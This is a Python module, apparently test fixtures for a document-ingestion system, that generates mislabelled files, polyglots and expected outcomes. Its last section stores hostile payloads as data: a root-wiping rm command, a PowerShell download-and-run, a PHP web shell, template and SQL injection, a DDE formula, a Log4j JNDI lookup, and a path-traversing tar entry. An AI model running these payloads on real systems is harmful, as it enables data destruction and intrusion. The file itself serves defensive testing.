"""Files of another type than their name says: programs, pictures, archives, office files that are not read, two in
one. Only as much of each is made as tells what it is."""

from __future__ import annotations

import gzip
import io
import random
import tarfile
import zipfile
from collections.abc import Iterator

from corpora.hostile.archives import members, pack
from corpora.hostile.case import Case, Make, case
from corpora.hostile.good import pdf, text, word

Made = tuple[str, str, Make | bytes]

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REST = bytes(range(256)) * 8


def cases() -> Iterator[Case]:
    """All of them."""
    made = [*_foreign(), *_office(), *_rich(), *_two_in_one(), *_plain()]
    return (case("type", about, expected, make) for about, expected, make in made)


def _foreign() -> list[Made]:
    heads = {
        "a program of Windows": b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"PE\x00\x00",
        "a program of Linux": b"\x7fELF\x02\x01\x01\x00",
        "a program of macOS": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
        "a class of Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "a module of WebAssembly": b"\x00asm\x01\x00\x00\x00",
        "a picture, PNG": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "a picture, JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "a picture, GIF": b"GIF89a\x01\x00\x01\x00",
        "a picture, TIFF": b"II*\x00\x08\x00\x00\x00",
        "a picture, BMP": b"BM\x36\x00\x00\x00\x00\x00",
        "a picture, WebP": b"RIFF\x24\x00\x00\x00WEBPVP8 ",
        "a picture, HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00",
        "a film, MP4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00",
        "a song, MP3": b"ID3\x03\x00\x00\x00\x00\x00\x21",
        "a song, Ogg": b"OggS\x00\x02\x00\x00",
        "an archive, RAR": b"Rar!\x1a\x07\x01\x00",
        "an archive, 7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
        "an archive, xz": b"\xfd7zXZ\x00\x00\x04",
        "an archive, bzip2": b"BZh91AY&SY\x00\x01\x02\x03",
        "an archive, zstd": b"\x28\xb5\x2f\xfd\x04\x00",
        "a disk, ISO": bytes(600) + b"CD001",
        "a database of SQLite": b"SQLite format 3\x00\x10\x00",
        "a pickle of Python": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94",
        "a link of Windows": b"L\x00\x00\x00\x01\x14\x02\x00",
        "a packet of a network": b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00",
        "a font": b"\x00\x01\x00\x00\x00\x0e\x00\x80",
        "a page of a printer": b"\x1b%-12345X@PJL \x00\x01\x02\x03\x04\x05\x06\x07",
    }
    rows: list[Made] = [(about, "unsupported_type", head + REST) for about, head in heads.items()]
    rows += [
        ("zeros", "unsupported_type", bytes(70_000)),
        ("random bytes", "unsupported_type", lambda: random.Random(8).randbytes(70_000)),
        ("one zero", "unsupported_type", b"\x00"),
        ("an archive, gzip", "unsupported_type", lambda: gzip.compress(text(), mtime=0)),
        ("an archive, tar", "unsupported_type", _tar),
    ]
    return rows


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("../../etc/x")
        member.size = len(text())
        archive.addfile(member, io.BytesIO(text()))
    return buffer.getvalue()


def _compound(*names: str) -> bytes:
    """As much of an OLE2 compound file as names its streams."""
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + bytes(64) for name in ("Root Entry", *names))
    return OLE + bytes(24) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + bytes(472) + entries + bytes(4096)


def _zipped(*parts: tuple[str, bytes], first: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first:
            archive.writestr(zipfile.ZipInfo("mimetype"), first)
        for name, content in parts:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _office() -> list[Made]:
    kinds = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    types = "[Content_Types].xml"
    return [
        ("Word with a password", "encrypted", _compound("EncryptionInfo", "EncryptedPackage")),
        ("Word 97", "corrupt", _compound("WordDocument", "1Table")),
        ("Word 97 with macros", "corrupt", _compound("WordDocument", "Macros", "_VBA_PROJECT")),
        ("Excel 97", "corrupt", _compound("Workbook")),
        ("PowerPoint 97", "unsupported_type", _compound("PowerPoint Document")),
        ("a message of Outlook", "unsupported_type", _compound("__substg1.0_0037001F")),
        ("an installer", "unsupported_type", _compound("!_StringData")),
        ("OLE cut after its first bytes", "unsupported_type", OLE),
        ("Excel", "corrupt", lambda: _zipped((types, kinds), ("xl/workbook.xml", b"<workbook/>"))),
        ("PowerPoint", "unsupported_type", lambda: _zipped((types, kinds), ("ppt/presentation.xml", b"<p/>"))),
        ("a package of no kind", "unsupported_type", lambda: _zipped((types, kinds), ("x.xml", b"<x/>"))),
        ("a drawing of Visio", "unsupported_type", lambda: _zipped((types, kinds), ("visio/document.xml", b"<x/>"))),
        ("XPS", "unsupported_type", lambda: _zipped((types, kinds), ("FixedDocSeq.fdseq", b"<x/>"))),
        (
            "OpenDocument",
            "corrupt",
            lambda: _zipped(("content.xml", b"<x/>"), first=b"application/vnd.oasis.opendocument.text"),
        ),
        (
            "a book, EPUB",
            "unsupported_type",
            lambda: _zipped(("OEBPS/a.xhtml", b"<html/>"), first=b"application/epub+zip"),
        ),
        ("a program of Java", "unsupported_type", lambda: _zipped(("META-INF/MANIFEST.MF", b"Main-Class: X\n"))),
        (
            "a program of Android",
            "unsupported_type",
            lambda: _zipped(("AndroidManifest.xml", bytes(99)), ("classes.dex", b"dex\n035\x00")),
        ),
        ("a folder of Word files", "unsupported_type", lambda: _zipped(("a.docx", word()), ("b.docx", word()))),
    ]


def _two_in_one() -> list[Made]:
    return [
        ("PDF and Word in one, PDF first", "reads|corrupt", lambda: pdf() + word()),
        ("PDF and Word in one, Word first", "reads|corrupt", lambda: word() + pdf()),
        (
            "Word with a PDF before its text",
            "reads|corrupt|unsupported_type",
            lambda: pack([("a.txt", b"%PDF-1.7\n"), *members(word())], zipfile.ZIP_STORED),
        ),
        ("GIF and Word in one", "unsupported_type", lambda: b"GIF89a\x01\x00\x01\x00\xff" + word()),
        ("PNG and PDF in one", "corrupt|reads|unsupported_type", lambda: b"\x89PNG\r\n\x1a\n" + pdf()),
        ("program and PDF in one", "corrupt|reads|unsupported_type", lambda: b"MZ\x90\x00" + bytes(60) + pdf()),
        ("page and PDF in one", "corrupt|reads", lambda: b"<html><body>" + pdf()),
        ("program and Word in one", "unsupported_type", lambda: b"MZ\x90\x00" + bytes(60) + word()),
        ("PDF's first bytes before zeros", "corrupt", b"%PDF-1.7\n" + bytes(60_000)),
        ("Word's first bytes before zeros", "corrupt|unsupported_type", b"PK\x03\x04" + bytes(60_000)),
        ("Word's first bytes before a text", "corrupt|unsupported_type", lambda: b"PK\x03\x04" + text() * 9),
    ]


def _rich() -> list[Made]:
    return [
        ("rich text", "reads", b"{\\rtf1\\ansi B\\'e1o c\\'e1o{\\object\\objdata 01050000}}"),
        (
            "rich text that has a template of the web",
            "empty",
            b"{\\rtf1{\\*\\template http://127.0.0.1:9/x}}",
        ),
    ]


def _plain() -> list[Made]:
    """Text that is something else to somebody: it is read as text, never run."""
    scripts = {
        "a page with a script": b"<html><body><p>Bao cao so 12/BC-UBND</p><script>while(1);</script></body></html>",
        "a script of a shell": b"#!/bin/sh\nrm -rf --no-preserve-root /\n",
        "a script of PowerShell": b"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/')\r\n",
        "a script of PHP": b"<?php system($_GET['x']); ?>\n",
        "a template of Jinja": b"{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}\n",
        "a query of SQL": b"'; DROP TABLE document; --\n",
        "a cell that is a formula": b"=cmd|'/c calc'!A1\n@SUM(1+1)*cmd|'/c calc'!A1\n",
        "a look-up of a log": b"${jndi:ldap://127.0.0.1:9/x}\n",
        "a list of Python": b"__import__('os').system('id')\n",
        "orders to a terminal": b"Bao cao \x1b]0;x\x07\x1b[2J\x1b[31m so 12/BC-UBND\n",
        "a picture of SVG": b"<svg><script>alert(1)</script><text>Bao cao</text></svg>",
        "a message with a file": b"MIME-Version: 1.0\nContent-Type: multipart/x; boundary=x\n\n--x\nBao cao\n--x--\n",
    }
    return [(about, "reads|empty|unsupported_type", content) for about, content in scripts.items()]
